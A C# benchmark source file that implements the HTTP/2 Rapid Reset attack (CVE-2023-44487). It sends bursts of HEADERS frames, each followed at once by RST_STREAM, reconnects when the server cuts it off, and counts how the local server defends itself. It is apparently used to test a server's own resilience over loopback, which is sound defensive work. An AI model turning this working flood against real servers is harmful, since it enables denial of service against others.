using System.Buffers.Binary;
using System.Diagnostics;
using System.Net.Sockets;
using System.Net;
using WasteSorting.Testing.Http2;

namespace WasteSorting.Benchmarks;

/// <summary>
/// One attacker (CVE-2023-44487): opens calls and resets each at once, and connects again whenever the server cuts it off. Blocking,
/// on a thread of its own: it must not hold up the honest callers' client.
/// </summary>
internal sealed class ResetConnection(Uri address, byte[] headers, int wanted, TimeSpan allowed)
{
    // A burst of more than twice its streams Kestrel cuts off; who waits in between makes it begin every single call.
    private const int BatchMax = 100;
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(60);

    private readonly FrameBuffer output = new();
    private readonly byte[] head = new byte[Http2Numbers.FrameHeader];
    private readonly byte[] payload = new byte[1 << 14];
    private readonly long start = Stopwatch.GetTimestamp();

    /// <summary>Resets that were sent, over all connections.</summary>
    public int SentCount { get; private set; }

    /// <summary>Those that the server has read for sure: it answered a ping behind them.</summary>
    public int ReadCount { get; private set; }

    /// <summary>Connections that the server ended, and how many of them with GOAWAY.</summary>
    public (int All, int GoAway) Cuts { get; private set; }

    /// <summary>Streams that it answered with ENHANCE_YOUR_CALM.</summary>
    public int CalmCount { get; private set; }

    public void Run()
    {
        while (GoesOn)
        {
            using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
            socket.ReceiveTimeout = socket.SendTimeout = (int)Patience.TotalMilliseconds;
            try
            {
                socket.Connect(IPAddress.Loopback, address.Port);
                Attack(new NetworkStream(socket));
            }
            catch (IOException)
            {
                // Cut off without a word.
                Cuts = (Cuts.All + 1, Cuts.GoAway);
            }
        }
    }

    private bool GoesOn => SentCount < wanted && Stopwatch.GetElapsedTime(start) < allowed;

    private void Attack(NetworkStream server)
    {
        output.Clear();
        output.Append(Http2Numbers.Preface);
        output.Frame(Http2Numbers.Settings, 0, 0, []);
        for (var stream = 1; GoesOn;)
        {
            var count = Math.Min(BatchMax, wanted - SentCount);
            stream = AddBatch(stream, count);
            Send(server);
            SentCount += count;
            if (!IsPingAnswered(server))
            {
                Cuts = (Cuts.All + 1, Cuts.GoAway + 1);
                return;
            }

            ReadCount += count;
        }
    }

    /// <summary>Gives back the next stream's number.</summary>
    private int AddBatch(int stream, int count)
    {
        for (var end = stream + (2 * count); stream < end; stream += 2)
        {
            output.Frame(Http2Numbers.Headers, Http2Numbers.EndHeaders, stream, headers);
            output.Frame(Http2Numbers.Reset, stream, Http2Numbers.Cancel);
        }

        output.Frame(Http2Numbers.Ping, 0, 0, stackalloc byte[8]);
        return stream;
    }

    private void Send(NetworkStream server)
    {
        try
        {
            server.Write(output.Written.Span);
        }
        catch (IOException)
        {
            // Cut off; what the server said before is still there to be read.
        }

        output.Clear();
    }

    /// <summary>Reads up to the ping's answer; or to GOAWAY, which says that there will be none.</summary>
    private bool IsPingAnswered(NetworkStream server)
    {
        while (true)
        {
            server.ReadExactly(head);
            var body = payload.AsSpan(0, BinaryPrimitives.ReadInt32BigEndian(head) >>> 8);
            server.ReadExactly(body);
            switch (head[3])
            {
                case Http2Numbers.Ping when (head[4] & Http2Numbers.Ack) != 0:
                    return true;
                case Http2Numbers.GoAway:
                    return false;
                case Http2Numbers.Reset when BinaryPrimitives.ReadInt32BigEndian(body) == Http2Numbers.EnhanceYourCalm:
                    CalmCount++;
                    break;
                case Http2Numbers.Settings when (head[4] & Http2Numbers.Ack) == 0:
                    output.Frame(Http2Numbers.Settings, Http2Numbers.Ack, 0, []);
                    break;
            }
        }
    }
}
